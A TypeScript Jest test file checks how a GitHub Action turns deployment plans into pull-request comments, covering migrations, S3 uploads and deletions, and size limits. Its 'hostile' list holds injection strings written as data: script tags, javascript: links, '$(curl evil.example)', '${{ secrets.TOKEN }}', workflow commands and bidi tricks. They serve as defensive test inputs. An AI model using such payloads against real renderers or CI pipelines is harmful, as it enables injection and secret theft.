import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { bodyOf, fitted, markerOf } from '../../../src/actions/pr-comment/body.ts';
import { content } from '../../../src/actions/pr-comment/content.ts';
import { abridged } from '../../../src/domain/abridged-plan.ts';
import type { Plan } from '../../../src/domain/plan.ts';
import { markdownReport } from '../../../src/report/markdown.ts';
import { onePassSeconds, processorSeconds } from '../../support/processor-seconds.ts';
import { renderMarkdown } from '../../workflow-runner/render/markdown.ts';

const given = (plans: readonly Plan[], notes: readonly string[] = [], header = 'clinic in prod') => ({
  ...{ header, notes, facts: [] },
  plans: plans.map((plan) => ({ plan, fingerprint: 'f'.repeat(64) })),
});

const database: Plan = {
  action: 'seed-rds',
  target: 'clinic-prod/clinic',
  changes: [
    {
      ...{ kind: 'migrate', resource: 'migrations/012_drop.sql', irreversible: 'a migration stays' },
      ...{ statements: 53, done: 1, heads: [{ line: 3, statement: 'DROP TABLE visits' }] },
      destructive: [{ line: 3, statement: 'DROP TABLE visits', effect: 'drops a table' }],
    } as Plan['changes'][number],
  ],
};
const site: Plan = {
  action: 'sync-spa-s3',
  target: 's3://site/',
  changes: [
    { kind: 'put', resource: 's3://site/a.js', reason: 'new' } as Plan['changes'][number],
    { kind: 'put', resource: 's3://site/index.html', reason: 'content' } as Plan['changes'][number],
    { kind: 'delete', resource: 's3://site/old.js', irreversible: 'the object is gone' },
  ],
};
const edge: Plan = { action: 'invalidate-cloudfront', target: 'E1', changes: [] };

/** Without the places where a long word may be broken. */
function shownOf(parts: ReturnType<typeof given>, maxRows = 100): string {
  return markdownReport(content(parts, maxRows)).replaceAll('<wbr>', '');
}

describe('content', () => {
  test('says what changes where, what cannot be undone, the details, and in a line what stays', () => {
    expect(
      shownOf(given([database, site, edge], ['Preview: https://x.example/pr-7/', 'by hand'])),
    ).toBe(`## 📋 clinic in prod

2 of 3 stages would change something. 2 changes cannot be undone.

- **Preview:** [https&#58;//x.example/pr-7/](https://x.example/pr-7/)

by hand

### What changes

| Stage | Where | What |
| --- | --- | --- |
| seed-rds | clinic-prod/clinic | apply 1 migration |
| sync-spa-s3 | s3://site/ | upload 2 files, delete 1 object |

### What cannot be undone

| Stage | What | Why |
| --- | --- | --- |
| seed-rds | migrate migrations/012&#95;drop.sql | line 3 drops a table: DROP TABLE visits |
| seed-rds | migrate migrations/012&#95;drop.sql | a migration stays |
| sync-spa-s3 | delete s3://site/old.js | the object is gone |

<details><summary>📋 seed-rds: clinic-prod/clinic</summary>

Would apply 1 migration.

#### Statements that will run

| File | Line | Statement |
| --- | --- | --- |
| migrations/012&#95;drop.sql | 3 | DROP TABLE visits |
| migrations/012&#95;drop.sql |  | and 51 more statements |

</details>

<details><summary>📋 sync-spa-s3: s3://site/</summary>

Would upload 2 files, delete 1 object.

#### Changes

| What | Why | Resource |
| --- | --- | --- |
| put | new | s3://site/a.js |
| put | content | s3://site/index.html |
| delete |  | s3://site/old.js |

</details>

Unchanged: invalidate-cloudfront &#40;E1&#41;.

<details><summary>Fingerprints, for <code>expected-plan</code></summary>

<pre>${'f'.repeat(64)}  seed-rds clinic-prod/clinic
${'f'.repeat(64)}  sync-spa-s3 s3://site/
${'f'.repeat(64)}  invalidate-cloudfront E1</pre>

</details>
`);
  });

  test("the chain's plan is shown by its stages", () => {
    const chain = {
      ...{ action: 'deploy', target: 'clinic in prod' },
      stages: [
        { stage: 'database', action: 'seed-rds', target: 'db' },
        { stage: 'edge', action: 'invalidate-cloudfront', target: 'E1' },
      ],
      changes: [{ kind: 'migrate', resource: 'a.sql', stage: 'database' }],
    };
    const shown = shownOf(given([chain]));
    expect(shown).toContain('1 of 2 stages would change something.');
    expect(shown).toContain('| database | db | apply 1 migration |');
    expect(shown).toContain('Unchanged: edge &#40;E1&#41;.');
  });

  test('many that cannot be undone for the same reason are one row', () => {
    const changes = Array.from({ length: 212 }, (_, index) => ({
      ...{ kind: 'delete', resource: `s3://site/old-${index}.js`, irreversible: 'the object is gone' },
    }));
    const shown = shownOf(given([{ ...site, changes }]));
    expect(shown).toContain('212 changes cannot be undone.');
    expect(shown).toContain('| sync-spa-s3 | delete s3://site/old-0.js and 211 more | the object is gone |');
  });

  test('what an invalidation covers', () => {
    const change = { kind: 'invalidate', resource: 'arn:1', paths: ['/', '/index.html', 5] };
    const shown = shownOf(given([{ ...edge, changes: [change] }]));
    expect(shown).toContain('| invalidate | /, /index.html | arn:1 |');
  });

  test('an abridged plan is counted whole', () => {
    const puts = Array.from({ length: 900 }, (_, index) => ({ kind: 'put', resource: `s3://site/${index}.js` }));
    const gone = Array.from({ length: 60 }, (_, index) => ({
      ...{ kind: 'delete', resource: `s3://site/old-${index}.js`, irreversible: 'the object is gone' },
    }));
    const short = abridged({ ...site, changes: [...puts, ...gone] }, 'f'.repeat(64), 20_000);
    const shown = shownOf(given([short]), 200);
    expect(shown).toContain('60 changes cannot be undone.');
    expect(shown).toContain('| sync-spa-s3 | s3://site/ | upload 900 files, delete 60 objects |');
    expect(shown).toContain('| sync-spa-s3 | delete s3://site/old-0.js and 59 more | the object is gone |');
    expect(shown).toContain('sync-spa-s3: put of 850 more.');
  });

  test('nothing to change, and nothing to show', () => {
    expect(content(given([edge]), 10)).toMatchObject({ status: 'unchanged', result: 'Nothing would change.' });
    expect(content(given([]), 10).result).toBe('There is no plan to show.');
  });
});

/** Everything that Markdown, HTML, GitHub or the runner could take for more than text. */
const hostile = [
  '</details><script>alert(1)</script><img src=x onerror=alert(1)>',
  '[click](javascript:alert(1)) ![x](https://evil.example/p.png) https://evil.example',
  '--> <!-- aws-webapp-actions pr-comment other -->',
  '@octocat @acme/owners fixes #12 GH-12 acme/clinic#12 &#64;octocat &commat;octocat',
  '${{ secrets.TOKEN }} $(curl evil.example) `id`',
  '::set-output name=x::y\n::error::z\n##[command]x',
  'a\n\n# heading\n| b | c |\n|---|---|\r\n---\u2028x',
  'txt.exe\u202egpj.\u2066hidden\u2069',
  '\u0000\u0007\u001b[31mred',
  'x'.repeat(100_000),
  '<'.repeat(100_000),
  '\ud800 half of a pair',
];

/** A plan in which every text is this one. */
function planOf(text: string): Plan {
  const change = {
    ...{ kind: text, resource: text, reason: text, irreversible: text },
    fields: [{ field: text, before: text, after: text }],
  };
  const file = {
    ...{ kind: text, resource: text, heads: [{ line: 1, statement: text }] },
    destructive: [{ line: 1, statement: text, effect: text }],
  };
  return { action: text, target: text, changes: [change, file, { ...change, fields: [] }] };
}

const commentOf = (text: string) => {
  const wanted = given([planOf(text), planOf(text)], [text], text);
  return bodyOf(wanted.header, fitted(wanted));
};

/** What may stand in a comment: our own structure, and nothing else. */
const ownTags =
  /^<\/?(h2|h3|h4|p|ul|li|table|thead|tbody|tr|th|td|strong|code|details|summary|pre|br|wbr)( align="[a-z]+")?( \/)?>$/;

describe('whatever the texts are', () => {
  test.each(hostile)('%.60j stays text', (text) => expectText(text));

  test('so does any text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 200 }), (text) => expectText(text)),
      { numRuns: 200 },
    );
  });

  test('and anything made of dangerous pieces', () => {
    const piece = fc.constantFrom(
      ...'<>[]()`*_#@|&;:!-\n\r\t\\"\'$%{} '.split(''),
      'https://',
      '<!--',
      '-->',
      '@a',
      '#1',
      'www.',
      '&lt;',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), (pieces) => expectText(pieces.join(''))),
      { numRuns: 300 },
    );
  });

  function expectText(text: string): void {
    const body = commentOf(text);
    expect(body.length).toBeLessThanOrEqual(65_536);
    const [mark = '', ...rest] = body.split('\n');
    expect(mark).toMatch(/^<!-- aws-webapp-actions pr-comment [\w%.!~*'()]* -->$/);
    const html = renderMarkdown(rest.join('\n'));
    const tags = html.match(/<[^>]*>/g) ?? [];
    const links = tags.filter((tag) => tag.startsWith('<a '));
    expect(tags.filter((tag) => !ownTags.test(tag) && !/^<\/?a\b/.test(tag))).toEqual([]);
    // Only a note that ends in an address may lead somewhere.
    if (!/https?:\/\/\S+$/.test(text.trim())) expect(links).toEqual([]);
    const shown = html.replace(/<[^>]*>/g, ' ').replace(/&#x?[\da-f]+;|&amp;|&lt;|&gt;|&quot;/gi, decoded);
    expect(shown).not.toMatch(/(^|[^A-Za-z0-9])@[A-Za-z0-9]/);
    expect(shown).not.toMatch(/#\d/);
    expect(body).not.toMatch(/\p{Bidi_Control}/u);
    expect(body.isWellFormed()).toBe(true);
  }

  function decoded(entity: string): string {
    const named = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"' }[entity.toLowerCase()];
    const [, hex, digits = ''] = /^&#(x?)([\da-f]+);$/i.exec(entity) ?? [];
    return named ?? String.fromCodePoint(Number.parseInt(digits, hex ? 16 : 10));
  }
});

describe('however much there is', () => {
  const many = (count: number): Plan => ({
    ...{ action: 'sync-spa-s3', target: 's3://site/' },
    changes: Array.from({ length: count }, (_, index) => ({
      kind: 'put',
      resource: `s3://site/<${index}>${'_'.repeat(200)}`,
    })),
  });

  test.each([1, 30, 300, 50_000])('%d changes fit, and what is left out is counted', (count) => {
    const wanted = given([many(count)]);
    const body = bodyOf(wanted.header, fitted(wanted));
    expect(body.length).toBeLessThanOrEqual(65_536);
    expect(body).toContain(`upload ${count} file`);
    const shown = body.match(/^\| put \|/gm)?.length ?? 0;
    const left = Number(/and (\d+) more/.exec(body)?.[1] ?? 0);
    expect(shown + left).toBe(count);
    expect(shown).toBeGreaterThanOrEqual(Math.min(count, 8));
    expect(body.match(/<details>/g)?.length).toBe(body.match(/<\/details>/g)?.length);
  });

  test.each([
    ...[
      ' ',
      '\t\u00a0',
      ':',
      ': ',
      '\u2028',
      '@a',
      '#1',
      'GH-1',
      'http://',
      'https://x',
      '<!--',
      '-->',
      '[](',
      '&#',
      '| ',
    ],
    ...['\\', '`', '*_', '~~', 'www.', '1.', '- ', '\u202e', '\ud800'],
  ])('a megabyte of %j costs no more than its length', (piece) => {
    const text = `a${piece.repeat(1_000_000 / piece.length)}b`;
    const plan: Plan = {
      ...{ action: text, target: text },
      changes: [
        {
          ...{ kind: text, resource: text, irreversible: text },
          fields: [{ field: text, before: text, after: text }],
        } as Plan['changes'][number],
      ],
    };
    const begun = processorSeconds();
    const wanted = given(
      [plan],
      [text, `x${text} https://x.example/${text}`, `Preview: https://x.example/ ${text}`],
      text,
    );
    expect(bodyOf(wanted.header, fitted(wanted)).length).toBeLessThanOrEqual(65_536);
    expect(processorSeconds() - begun).toBeLessThan(onePassSeconds);
  });

  test('2,000 plans', () => {
    const wanted = given(Array.from({ length: 2_000 }, () => many(3)));
    expect(bodyOf(wanted.header, fitted(wanted)).length).toBeLessThanOrEqual(65_536);
  });
});

test('headers have marks of their own, which no other header begins', () => {
  const header = fc.string({ maxLength: 60 });
  fc.assert(
    fc.property(header, header, (a, b) => {
      expect(markerOf(a).startsWith(markerOf(b))).toBe(a === b);
    }),
  );
});
